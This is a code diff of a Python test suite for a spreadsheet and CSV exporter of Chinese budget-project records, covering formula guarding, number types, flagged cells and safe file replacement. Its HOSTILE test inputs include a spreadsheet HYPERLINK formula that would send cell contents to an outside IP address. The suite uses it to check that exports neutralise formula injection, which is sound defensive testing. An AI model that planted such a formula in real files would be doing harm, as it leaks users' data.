@@ -4,7 +4,6 @@ import csv
 import hashlib
 import json
 import os
-import runpy
 import subprocess
 import sys
 import textwrap
@@ -39,10 +38,9 @@ from schemas.record import (
 )
 from schemas.target import Target
 from tests.published import AT_LEAST, DUE, PER_DAY, SEVERAL
+from tests.run_samples import Run, document, fill, flag, reading, record
 
 ROOT = Path(__file__).parent.parent
-SAMPLES = runpy.run_path(str(Path(__file__).with_name("run_samples.py")))
-document, fill, flag, reading, record = (SAMPLES[name] for name in ("document", "fill", "flag", "reading", "record"))
 HOSTILE = (
     '=HYPERLINK("http://198.51.100.7/?q="&A1,"点击")',
     "=1+1",
@@ -62,27 +60,6 @@ HOSTILE = (
     "2026-01-01",
     "0012",
 )
-
-
-class Fake:
-    """What `export` needs of a store, from plain lists."""
-
-    def __init__(self, records: list[Record], documents: list[DocumentLine] | None = None) -> None:
-        files = sorted({item.document.file for item in records})
-        self._records = records
-        self._documents = [document(file, 1) for file in files] if documents is None else documents
-
-    def document_lines(self) -> Iterator[str]:
-        return (line.model_dump_json() for line in self._documents)
-
-    def record_lines(self) -> Iterator[str]:
-        return (item.model_dump_json() for item in self._records)
-
-    def documents(self) -> Iterator[DocumentLine]:
-        return iter(self._documents)
-
-    def records(self) -> Iterator[Record]:
-        return iter(self._records)
 
 
 def sheets_of(directory: Path) -> dict[str, Worksheet]:
@@ -168,7 +145,7 @@ def test_any_text_comes_back(tmp_path: Path, name: str, goal: str, value: str, l
 
 def test_csv_is_for_excel_and_for_scripts(tmp_path: Path) -> None:
     items = [record(0), record(1, flags=(flag(),))]
-    export(Fake(items), tmp_path, formats=("csv",))
+    export(Run(items), tmp_path, formats=("csv",))
     for name in FORMATS["csv"]:
         assert (tmp_path / name).read_bytes().startswith("\ufeff项目序号,".encode())
     rows = read_csv(tmp_path / "projects.csv")
@@ -202,7 +179,7 @@ def test_csv_is_for_excel_and_for_scripts(tmp_path: Path) -> None:
 )
 def test_csv_guards_text_that_would_run(tmp_path: Path, text: str, expected: str) -> None:
     item = record(project=reading(name=text, amounts=Amounts(total="-80.00", fiscal="-0.5", unplaced=("-1.00",))))
-    export(Fake([item]), tmp_path, formats=("csv",))
+    export(Run([item]), tmp_path, formats=("csv",))
     (row,) = read_csv(tmp_path / "projects.csv")
     assert row["项目名称"] == expected
     assert (row["总计"], row["财政拨款"]) == ("-80.00", "-0.5"), "negative amounts stay numbers"
@@ -234,7 +211,7 @@ def test_three_sheets_with_headings_filters_and_frozen_rows(tmp_path: Path) -> N
 
 def test_amounts_are_numbers(tmp_path: Path) -> None:
     amounts = Amounts(total="1141.20", fiscal="-80.5", special_account="0.00", other="0.12345678")
-    export(Fake([record(project=reading(amounts=amounts))]), tmp_path, formats=("xlsx",))
+    export(Run([record(project=reading(amounts=amounts))]), tmp_path, formats=("xlsx",))
     sheet = sheets_of(tmp_path)["项目"]
     values = [cell(sheet, heading) for heading in ("总计", "财政拨款", "财政专户拨款", "其他资金")]
     assert [item.value for item in values] == [1141.2, -80.5, 0, 0.12345678]
@@ -260,7 +237,7 @@ def test_nothing_is_a_formula_or_a_link(tmp_path: Path) -> None:
         for index, text in enumerate(HOSTILE)
     ]
     lines = [document("a.txt", len(items), flags=(flag(FlagCode.SUM_MISMATCH, "totals[0]", message=HOSTILE[0]),))]
-    export(Fake(items, lines), tmp_path, formats=("xlsx",))
+    export(Run(items, lines), tmp_path, formats=("xlsx",))
     found = sheets_of(tmp_path)
     for sheet in found.values():
         assert {item.data_type for row in sheet.iter_rows() for item in row} <= {"s", "n", "inlineStr"}
@@ -306,7 +283,7 @@ def with_targets() -> Record:
 
 
 def test_targets_are_columns_to_sort_and_filter_by(tmp_path: Path) -> None:
-    export(Fake([with_targets()]), tmp_path, formats=("xlsx", "csv"))
+    export(Run([with_targets()]), tmp_path, formats=("xlsx", "csv"))
     found = sheets_of(tmp_path)
     (project,) = table(found["项目"])
     assert (project["区划代码"], project["行政区划"]) == ("440106", "天河区")
@@ -357,7 +334,7 @@ def test_flagged_cells_are_coloured_and_say_why(tmp_path: Path) -> None:
         flag(FlagCode.DISAGREEMENT, "attributes.负责人", message="负责人不一致。"),
         flag(FlagCode.DISAGREEMENT, "something.new", message="新的检查。"),
     )
-    export(Fake([record(0, flags=flags), record(1)]), tmp_path, formats=("xlsx",))
+    export(Run([record(0, flags=flags), record(1)]), tmp_path, formats=("xlsx",))
     found = sheets_of(tmp_path)
     projects, indicators = found["项目"], found["指标"]
     fiscal = cell(projects, "财政拨款")
@@ -393,7 +370,7 @@ def test_review_sheet_has_a_row_for_each_flag_and_information_last(tmp_path: Pat
         document("b.txt", 1),
         document("c.txt", 0),
     ]
-    export(Fake([first, second], lines), tmp_path, formats=("xlsx",))
+    export(Run([first, second], lines), tmp_path, formats=("xlsx",))
     rows = table(sheets_of(tmp_path)["待核对"])
     assert [(row["类别"], row["文件"], row["字段"], row["检查代码"]) for row in rows] == [
         ("需核对", "a.txt", "第 1 个合计行·财政拨款", "sum_mismatch"),
@@ -417,7 +394,7 @@ def test_three_readings_and_what_was_read_once(tmp_path: Path) -> None:
         document("a.txt", 1),
         document("b.txt", 2, counts=Counts(blocks=2, records=2, no_second_reading=1)),
     ]
-    export(Fake([record(0, flags=(disputed,))], lines), tmp_path, formats=("xlsx",), language="en")
+    export(Run([record(0, flags=(disputed,))], lines), tmp_path, formats=("xlsx",), language="en")
     found = sheets_of(tmp_path)
     first, second = table(found["To check"])
     assert (first["Value read by the built-in reader"], first["Suggested value"]) == ("乙", "甲")
@@ -438,7 +415,7 @@ def test_text_that_a_cell_cannot_hold(tmp_path: Path) -> None:
         ),
         normalized=record().normalized,
     )
-    export(Fake([item]), tmp_path, formats=("xlsx",))
+    export(Run([item]), tmp_path, formats=("xlsx",))
     found = sheets_of(tmp_path)
     (row,) = table(found["项目"])
     assert row["项目名称"] == "合计"
@@ -461,7 +438,7 @@ def test_fitted(text: str) -> None:
 
 
 def test_rows_beyond_the_limit_go_on_in_a_second_sheet(tmp_path: Path) -> None:
-    source = Fake([record(n, flags=(flag(),)) for n in range(5)])
+    source = Run([record(n, flags=(flag(),)) for n in range(5)])
     xlsx.write(tmp_path / "projects.xlsx", source.documents(), source.records(), labels(), max_rows=11)
     found = sheets_of(tmp_path)
     assert list(found) == ["项目", "指标", "待核对", "指标(2)", "指标(3)", "指标(4)"]
@@ -473,7 +450,7 @@ def test_rows_beyond_the_limit_go_on_in_a_second_sheet(tmp_path: Path) -> None:
 
 def test_comments_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sheets, "MAX_COMMENTS", 3)
-    export(Fake([record(n, flags=(flag(message="长" * 5_000),)) for n in range(5)]), tmp_path, formats=("xlsx",))
+    export(Run([record(n, flags=(flag(message="长" * 5_000),)) for n in range(5)]), tmp_path, formats=("xlsx",))
     found = sheets_of(tmp_path)
     marked = [cell(found["项目"], "总计", row) for row in range(2, 7)]
     assert [item.comment is not None for item in marked] == [True, True, True, False, False]
@@ -482,14 +459,14 @@ def test_comments_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) 
 
 
 def test_empty_run(tmp_path: Path) -> None:
-    export(Fake([]), tmp_path)
+    export(Run([]), tmp_path)
     assert [sheet.max_row for sheet in sheets_of(tmp_path).values()] == [1, 1, 1]
     assert (tmp_path / "projects.jsonl").read_bytes() == b""
     assert read_csv(tmp_path / "projects.csv") == []
 
 
 def test_english(tmp_path: Path) -> None:
-    export(Fake([record(0, flags=(flag(),))]), tmp_path, language="en")
+    export(Run([record(0, flags=(flag(),))]), tmp_path, language="en")
     found = sheets_of(tmp_path)
     assert list(found) == ["Projects", "Indicators", "To check"]
     assert table(found["To check"])[0]["Field"] == "Total"
@@ -520,10 +497,10 @@ def test_the_same_database_gives_the_same_bytes(tmp_path: Path, monkeypatch: pyt
 
 
 def test_files_are_replaced_only_when_all_are_complete(tmp_path: Path) -> None:
-    export(Fake([record(0)]), tmp_path)
+    export(Run([record(0)]), tmp_path)
     before = digests(tmp_path)
 
-    class Broken(Fake):
+    class Broken(Run):
         def records(self) -> Iterator[Record]:
             yield record(1)
             raise OSError(28, "No space left on device")
@@ -537,7 +514,7 @@ def test_files_are_replaced_only_when_all_are_complete(tmp_path: Path) -> None:
 def test_modes_follow_the_umask(tmp_path: Path) -> None:
     old = os.umask(0o027)
     try:
-        paths = export(Fake([record(0)]), tmp_path)
+        paths = export(Run([record(0)]), tmp_path)
     finally:
         os.umask(old)
     assert {path.stat().st_mode & 0o777 for path in paths} == {0o640}
@@ -548,23 +525,23 @@ def test_what_a_killed_export_left_is_cleared_away(tmp_path: Path) -> None:
         (tmp_path / name).mkdir()
         (tmp_path / name / "projects.csv").write_text("x")
     os.utime(tmp_path / ".export-old", (0, 0))
-    export(Fake([record(0)]), tmp_path, formats=("csv",))
+    export(Run([record(0)]), tmp_path, formats=("csv",))
     assert [path.name for path in tmp_path.iterdir() if path.is_dir()] == [".export-new"]
 
 
 def test_targets_that_cannot_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     (tmp_path / "file").write_text("x")
     with pytest.raises(OutputError, match="cannot be written"):
-        export(Fake([]), tmp_path / "file")
+        export(Run([]), tmp_path / "file")
     target = tmp_path / "projects.csv"
     target.mkdir()
     with pytest.raises(OutputError, match="in the way"):
-        export(Fake([]), tmp_path)
+        export(Run([]), tmp_path)
     target.rmdir()
     target.write_text("mine")
     target.chmod(0o444)
     with pytest.raises(OutputError, match="read-only"):
-        export(Fake([]), tmp_path)
+        export(Run([]), tmp_path)
     target.chmod(0o644)
 
     def refuse(self: Path, target: Path) -> Path:
@@ -572,14 +549,14 @@ def test_targets_that_cannot_be_written(tmp_path: Path, monkeypatch: pytest.Monk
 
     monkeypatch.setattr(Path, "replace", refuse)
     with pytest.raises(OutputError, match=r"projects\.jsonl.*close it"):
-        export(Fake([]), tmp_path)
+        export(Run([]), tmp_path)
     assert target.read_text() == "mine"
 
 
 @pytest.mark.parametrize("wrong", [{"formats": ("jsonl", "pdf")}, {"language": "fr"}])
 def test_unknown_options(tmp_path: Path, wrong: dict[str, Any]) -> None:
     with pytest.raises(UsageError, match=r"pdf|fr"):
-        export(Fake([]), tmp_path, **wrong)
+        export(Run([]), tmp_path, **wrong)
     assert list(tmp_path.iterdir()) == []
 
 
